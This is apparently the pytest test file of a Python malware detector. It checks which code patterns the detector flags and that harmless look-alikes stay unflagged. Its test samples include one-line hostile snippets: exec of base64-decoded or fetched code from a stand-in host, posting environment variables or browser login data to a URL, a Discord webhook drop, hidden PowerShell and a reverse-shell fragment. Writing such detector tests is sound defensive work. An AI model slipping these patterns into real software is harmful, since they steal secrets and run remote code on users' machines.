"""Python that does harm, and Python that only looks like it."""

from __future__ import annotations

import random
import time

import pytest

from detectors.software import code, python
from detectors.software.budget import PROFILES, Budget
from detectors.software.facts import Evidence, Use
from detectors.software.unpack import Node


def rules(source: str | bytes, path: str = "pkg/module.py") -> dict[str, int]:
    """Rules and the first line of each."""
    out: dict[str, int] = {}
    for e in look(source, path)[0]:
        if isinstance(e, Evidence):
            out.setdefault(e.rule, e.line)
    return out


def look(source: str | bytes, path: str = "pkg/module.py"):
    content = source if isinstance(source, bytes) else source.encode()
    budget = Budget(PROFILES["package"], lambda: 0.0)
    return list(python.look(Node(path, memoryview(content), "python", 1), budget)), budget.limits


HARMFUL = {
    "python.exec-decoded": "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
    "python.exec-fetched": "from urllib.request import urlopen as u\n\nexec(u('http://x.example/a').read())\n",
    "python.fetch-and-run": "import requests, os\ndef f():\n    x = requests.get('u').content\n    os.system(x)\n",
    "python.host-sent": "import socket, requests\ndef f():\n    requests.post('u', data=socket.gethostname())\n",
    "python.environment-sent": "import os, requests\nrequests.post('u', json=dict(os.environ))\n",
    "python.stores": "import requests\np = '/Chrome/User Data/Default/Login Data'\nrequests.post('u', files=p)\n",
    "python.drop": "URL = 'https://discord.com/api/webhooks/1/x'\n",
    "python.shell": "c = 'powershell -WindowStyle Hidden -enc SQBFAFgA'\n",
    "python.program-url": "u = 'http://x.example/payload.exe'\n",
    "python.bare-address": "u = 'http://203.0.113.7/x'\n",
    "python.blob": f"x = '{'QUJD' * 300}'\n",
    "python.mangled": "\n".join(f"_0x{i:06x} = {i}" for i in range(9)),
    "python.aside": "import os" + " " * 200 + ";__import__('os').system('x')\n",
    "python.native-code": "import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 1, 2, 3)\n",
    "python.capture-sent": "import requests\nfrom PIL import ImageGrab\nrequests.post('u', files=ImageGrab.grab())\n",
    "python.hidden-name": "x = ''.join(map(getattr(__builtins__, oct.__str__()[-3] + 'hr'), [104, 105]))\n",
    "python.code-in-text": "f.write(b\"import os;exec(urlopen('http://x.example').read())\")\n",
    "python.module-process": "import os\ndef f():\n    os.system('x')\nf()\n",
    "python.module-network": "import requests\nrequests.get('u')\n",
    "python.startup": "import winreg\nwinreg.SetValueEx(k, 'x', 0, 1, 'y')\n",
    "python.reverse-shell": "import socket,os\ns=socket.socket()\nos.dup2(s.fileno(),0)\nx='/bin/sh'\n",
}  # fmt: skip
AT_INSTALL = {
    "python.install-process": "import os\nos.system('x')\n",
    "python.install-network": "import requests\ndef f():\n    requests.get('u')\n",
    "python.install-decoded": "import base64\nx = base64.b64decode('eA==')\n",
}
AT_IMPORT = {"python.import-process": "import subprocess\nsubprocess.run(['x'])\n",
             "python.import-network": "import requests\nrequests.get('u')\n"}  # fmt: skip


@pytest.mark.parametrize("rule", HARMFUL)
def test_what_does_harm_is_found(rule):
    assert rule in rules(HARMFUL[rule])


@pytest.mark.parametrize("rule", AT_INSTALL)
def test_what_runs_at_installation_is_told_apart_from_what_a_module_offers(rule):
    assert rule in rules(AT_INSTALL[rule], "p-1.tar.gz!/p-1.tar!/p-1/setup.py")
    assert rule not in rules(AT_INSTALL[rule])


@pytest.mark.parametrize("rule", AT_IMPORT)
def test_what_runs_at_import_is_told_apart_from_what_is_called(rule):
    source = AT_IMPORT[rule]
    assert rule in rules(source, "p.whl!/p/__init__.py")
    head, *body = source.splitlines()
    assert rule not in rules(f"{head}\ndef f():\n    {body[0]}\n", "p.whl!/p/__init__.py")


def test_every_rule_has_an_example_here():
    assert {*HARMFUL, *AT_INSTALL, *AT_IMPORT,
            "python.pth"} == {f"python.{r}" for r in code.WEIGHTS} - {"python.exec-input"}


def test_an_install_command_runs_at_installation_wherever_it_stands():
    source = "import os\nfrom setuptools.command.install import install\nclass P(install):\n"
    source += "  def run(self):\n    os.system('x')\n"
    assert rules(source) == {"python.install-process": 5}


def test_names_of_foreign_letters_that_nobody_can_tell_apart_are_mangled():
    names = ["".join(random.Random(i).choices("馬女水口目人鳥月山", k=20)) for i in range(6)]
    assert "python.mangled" in rules("\n".join(f"{n} = {i}" for i, n in enumerate(names)))


def test_a_pth_file_with_code_is_found_and_one_with_paths_is_not():
    assert "python.pth" in rules("import os; os.system('x')\n", "x.whl!/x.pth")
    assert rules("./lib\n", "x.whl!/x.pth") == {}


@pytest.mark.parametrize("source", [
    "from builtins import exec as go\nimport base64 as b\nx = b.b64decode('eA==')\ny = x.decode()\ngo(y)\n",
    "exec(__import__('base64').b64decode('eA=='))\n",
    "import importlib\nexec(importlib.import_module('zlib').decompress(b''))\n",
    "exec(decrypt('gAAAAABmBIPbKnvr9DYD8FUK3Co2rNgyWvkDBlYRXTRLkhqBKXLg7N0mmqQw_UCL0RVD4Oh6azw'))\n",
    "exec(getattr(__import__('base64'), 'b64decode')('eA=='))\n",
    "(exec)(bytes.fromhex('00'))\n",
])  # fmt: skip
def test_other_names_and_detours_hide_nothing(source):
    assert "python.exec-decoded" in rules(source)


@pytest.mark.parametrize("source", [
    "# exec(base64.b64decode(x))\n'''exec(base64.b64decode(x))'''\n",
    "import base64\ndef load(x):\n    return base64.b64decode(x)\n",
    "import requests\nif __name__ == '__main__':\n    requests.get('u')\n",
    "名前 = '这是一段很长的中文说明文字这是一段很长的中文说明文字'\n",
    "class A:\n    def exec(self): ...\nA().exec('x')\n",
    "import re\nre.compile('x')\nmodel.eval()\ndf.eval('a + b')\n",
    "import requests\ndef get(u):\n    return requests.get(u)\n",
    "import subprocess\ndef git(*a):\n    return subprocess.run(['git', *a])\n",
    "URL = 'http://127.0.0.1:8000/'\n", "TEXT = '" + "words that people read " * 60 + "'\n",
])  # fmt: skip
def test_what_only_looks_like_it_is_nothing(source):
    assert rules(source) == {}


def test_a_file_of_noise_and_one_that_is_too_large_end_in_time_and_say_so():
    noise = random.Random(1).randbytes(2 << 20).replace(b"\0", b"x")
    began = time.monotonic()
    _, limits = look(noise)
    assert time.monotonic() - began < 5
    assert {x.name for x in limits} <= {"slow"}
    assert {x.name for x in look(b"exec(x)\n" * 500_000)[1]} == {"slow"}


def test_python_that_does_not_parse_is_read_as_far_as_it_goes():
    source = "print 'two'\nimport base64\nexec base64.b64decode('x')\nexec(base64.b64decode('x'))\n"
    assert "python.exec-decoded" in rules(source)


def test_very_deep_code_is_no_error():
    harm = "\nimport base64\nexec(base64.b64decode('eA=='))\n"
    for deep in ("x = " + "(" * 5000 + "1" + ")" * 5000, "a" + ".b" * 3000 + "()"):
        found, limits = look(deep + harm)
        assert limits or "python.exec-decoded" in {e.rule for e in found if isinstance(e, Evidence)}


def test_functions_of_imported_modules_are_told_with_the_moment_of_their_call_and_their_first_line():
    source = "import os, json as j\nfrom . import mine\nx = 1\nx.get()\nmine.go()\nos.getenv('A')\n"
    source += "def f():\n    j.dumps(x)\n    open('a')\n    os.getenv('B')\nos.getenv('C')\n"
    found, _ = look(source, "p.whl!/p/__init__.py")
    assert [u for u in found if isinstance(u, Use)] == [
        Use("import", "os.getenv", "p.whl!/p/__init__.py", 6), Use("later", "json.dumps", "p.whl!/p/__init__.py", 8),
        Use("later", "open", "p.whl!/p/__init__.py", 9), Use("later", "os.getenv", "p.whl!/p/__init__.py", 10),
    ]  # fmt: skip


def large(middle: str) -> str:
    """A megabyte of harmless code around a few lines."""
    rest = "".join(f"class A{i}:\n    def f(self, x):\n        return {{'key{i}': [x, {i}], 'other': x}}\n" for i
                   in range(9000))
    return rest + middle + rest


def test_in_a_large_file_what_matters_is_found_on_its_line_and_quickly():
    middle = "import base64\ndef hidden():\n    exec(base64.b64decode(b'cHJpbnQoMSk='))\n"
    source = large(middle)
    assert len(source) > 1 << 20
    began = time.process_time()
    found = rules(source)
    assert time.process_time() - began < 5
    assert found["python.exec-decoded"] == large("").count("\n") // 2 + 3


def test_a_large_file_that_is_one_statement_is_bounded_too():
    body = "".join(f"    x{i} = call({i})\n" for i in range(60_000))
    source = f"def f():\n{body}    exec(base64.b64decode(x))\nimport base64\n"
    thin = python.thinned(source.encode())
    assert thin.count(b"\n") == source.count("\n")
    assert len(thin) - thin.count(b"\n") < 100_000
    assert b"exec(base64" in thin


def test_what_the_look_of_a_large_file_says_is_said_of_all_of_it():
    aside = "x = 1" + " " * 300 + "; import os\n"
    assert "python.aside" in rules(large("") + aside + large(""))


@pytest.mark.parametrize("content", [b"", b"\n", b"exec(", b"x" * 600_000, b"exec(" * 200_000,
                                     b"\n" * 600_000 + b"eval(1)"])
def test_thinning_keeps_the_number_of_lines_whatever_comes(content):
    thin = python.thinned(content)
    assert thin.count(b"\n") == content.count(b"\n")
    assert len(thin) <= len(content)
